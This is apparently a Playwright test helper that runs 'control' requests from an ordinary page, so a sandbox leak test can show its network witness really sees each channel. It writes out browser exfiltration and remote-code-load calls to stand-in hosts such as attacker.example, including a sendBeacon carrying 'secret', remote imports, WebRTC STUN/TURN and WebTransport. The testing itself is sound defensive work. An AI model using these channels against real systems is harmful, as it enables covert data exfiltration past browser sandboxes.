// Test helper (Node, Playwright runner). The same channels the hostile probes try, used from an ordinary
// fixture page in the same browser, so a clean hostile run means "blocked", not "the witness was blind".
// Each control names the hits that prove its channel was seen.
import type { Page } from '@playwright/test';
import { WITNESS_IP, type PrivateUdpWitness, type Witness, type WitnessHit } from '../harness';

export interface Control {
  channel: string;
  /** Runs in the ordinary page. */
  run: string;
  seen: (h: WitnessHit, tag: string) => boolean;
  /** An https page is needed (WebTransport, worklets are secure-context only). */
  https?: boolean;
}

/** A socket hit from this browser; one that could not be attributed counts too (the socket may close first). */
const ours = (h: WitnessHit, tag: string) => h.tag === tag || h.tag === undefined;
const proxied = (path: string, channel?: WitnessHit['channel']) => (h: WitnessHit) => h.path?.startsWith(path) === true && (!channel || h.channel === channel);

export const NETWORK_CONTROLS: Control[] = [
  { channel: 'fetch http', run: `fetch('http://attacker.example/control-fetch', { mode: 'no-cors' }).catch(() => 0)`, seen: proxied('/control-fetch', 'http') },
  { channel: 'fetch https', run: `fetch('https://leaking.via/control-fetch', { mode: 'no-cors' }).catch(() => 0)`, seen: proxied('/control-fetch', 'https') },
  { channel: 'fetch ip literal (direct TCP)', run: `fetch('http://${WITNESS_IP}:47474/control-ip', { mode: 'no-cors' }).catch(() => 0)`, seen: (h, tag) => h.channel === 'tcp' && h.port === 47474 && ours(h, tag) },
  { channel: 'XMLHttpRequest', run: `(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://attacker.example/control-xhr'); x.send(); })()`, seen: proxied('/control-xhr') },
  { channel: 'sendBeacon', run: `navigator.sendBeacon('http://attacker.example/control-beacon', 'secret')`, seen: proxied('/control-beacon') },
  { channel: 'WebSocket ws', run: `new WebSocket('ws://attacker.example/control-ws').onerror = () => 0`, seen: proxied('/control-ws', 'ws') },
  { channel: 'WebSocket wss', run: `new WebSocket('wss://attacker.example/control-wss').onerror = () => 0`, seen: proxied('/control-wss', 'wss') },
  { channel: 'EventSource', run: `new EventSource('http://attacker.example/control-es')`, seen: proxied('/control-es') },
  {
    channel: 'RTCPeerConnection STUN/TURN',
    run: `(() => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${WITNESS_IP}:3478' }, { urls: 'turn:${WITNESS_IP}:3478?transport=tcp', username: 'u', credential: 'c' }] });
      pc.createDataChannel('d'); pc.createOffer().then((o) => pc.setLocalDescription(o)); setTimeout(() => pc.close(), 4000);
    })()`,
    seen: (h, tag) => h.channel === 'udp' && h.port === 3478 && ours(h, tag),
  },
  { channel: 'dynamic import remote', run: `import('http://attacker.example/control-import.js').catch(() => 0)`, seen: proxied('/control-import.js') },
  {
    channel: 'importScripts remote',
    run: `new Worker(URL.createObjectURL(new Blob(["try { importScripts('http://attacker.example/control-import-scripts.js'); } catch (e) {}"])))`,
    seen: proxied('/control-import-scripts.js'),
  },
  { channel: 'FontFace', run: `new FontFace('x', 'url(http://attacker.example/control-font)').load().catch(() => 0)`, seen: proxied('/control-font') },
  { channel: 'Image', run: `new Image().src = 'http://attacker.example/control-image'`, seen: proxied('/control-image') },
];

/**
 * WebTransport from an ordinary https page reaches a UDP witness (QUIC Initials), but its last retransmission
 * races the socket's closing, so the shared witness on the fixed port cannot always attribute it, and a test
 * running in the other worker at that moment would count it as its own hit. So the control aims at a UDP
 * witness of this test's own on an ephemeral port (harness PrivateUdpWitness), which only this test knows:
 * whatever arrives there is this test's, attributed by the port. The hostile probes aim at the same port.
 * The port must be on the browser's proxy bypass list: with a proxy configured, Chromium sends QUIC only to
 * a direct destination (leak-channels.spec.ts adds it when it launches the browser).
 */
export const webTransportControl = (port: number): Control => ({
  channel: 'WebTransport (QUIC to a UDP witness)',
  https: true,
  run: `new Promise((resolve) => { const t = new WebTransport('https://${WITNESS_IP}:${port}/control-wt'); t.closed.catch(() => 0); t.ready.then(resolve, resolve); setTimeout(resolve, 8000); })`,
  seen: (h) => h.channel === 'udp' && h.via === 'socket' && h.port === port,
});

/** A private witness's datagrams as hits of this test (no other sender knows its port). */
export const privateHits = (udp: PrivateUdpWitness, tag: string): WitnessHit[] =>
  udp.hits().map((h) => ({ channel: 'udp', via: 'socket', host: WITNESS_IP, port: h.port, time: h.time, fixture: false, from: h.from, tag, bytes: h.bytes, preview: h.preview, record: h }));

/**
 * Runs every control from ordinary pages on other.test (http, and https where needed), waiting on each page
 * until its controls are seen before leaving it (leaving cancels what is still in flight). Returns how many
 * hits each control had.
 */
export async function runControls(page: Page, witness: Witness, controls: Control[], opts: { timeout?: number; privateUdp?: PrivateUdpWitness } = {}): Promise<Record<string, number>> {
  const origin = page.url();
  const timeout = opts.timeout ?? 10_000;
  const counts = (hits: WitnessHit[]) => Object.fromEntries(controls.map((c) => [c.channel, hits.filter((h) => c.seen(h, witness.tag)).length]));
  const allHits = async () => [...(await witness.hits()), ...(opts.privateUdp ? privateHits(opts.privateUdp, witness.tag) : [])];
  let hits: WitnessHit[] = [];
  for (const https of [false, true]) {
    const wanted = controls.filter((c) => (c.https ?? false) === https);
    if (!wanted.length) continue;
    await page.goto(`${https ? 'https' : 'http'}://other.test/index.html`);
    for (const c of wanted) await page.evaluate(`(async () => { await (${c.run}); })()`);
    const seenAll = (h: WitnessHit[]) => wanted.every((c) => h.some((x) => c.seen(x, witness.tag)));
    const deadline = Date.now() + timeout;
    for (;;) {
      hits = await allHits();
      if (seenAll(hits) || Date.now() > deadline) break;
      await new Promise((r) => setTimeout(r, 50));
    }
  }
  if (origin !== page.url()) await page.goto(origin).catch(() => undefined);
  return counts(hits);
}
